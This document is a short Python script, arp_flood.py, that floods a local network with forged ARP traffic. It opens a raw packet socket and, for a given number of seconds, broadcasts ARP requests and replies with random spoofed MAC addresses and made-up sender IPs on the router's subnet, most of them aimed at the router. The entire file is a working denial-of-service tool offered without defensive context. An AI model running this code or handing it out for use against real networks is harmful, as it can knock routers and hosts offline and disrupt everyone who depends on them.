"""Questions and answers that nobody needs, as fast as it goes: ARP from made-up neighbours, and requests for made-up addresses.

arp_flood.py INTERFACE ROUTER-ADDRESS SECONDS  prints how many frames
"""
import os
import random
import socket
import struct
import sys
import time

interface, router = sys.argv[1], socket.inet_aton(sys.argv[2])
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((interface, 0))
network = router[:3]
sent = 0
end = time.monotonic() + float(sys.argv[3])
while time.monotonic() < end:
    for _ in range(32):
        mac = b"\x02" + os.urandom(5)
        sender = network + bytes([random.randrange(3, 255)])
        target = router if random.random() < 0.8 else network + bytes([random.randrange(3, 255)])
        operation = random.choice((1, 2))
        frame = (b"\xff" * 6 + mac + struct.pack(">HHHBBH", 0x0806, 1, 0x0800, 6, 4, operation) + mac + sender + bytes(6) + target).ljust(60, b"\0")
        try:
            wire.send(frame)
            sent += 1
        except OSError:
            time.sleep(0.001)
    time.sleep(0.002)
print(sent, flush=True)
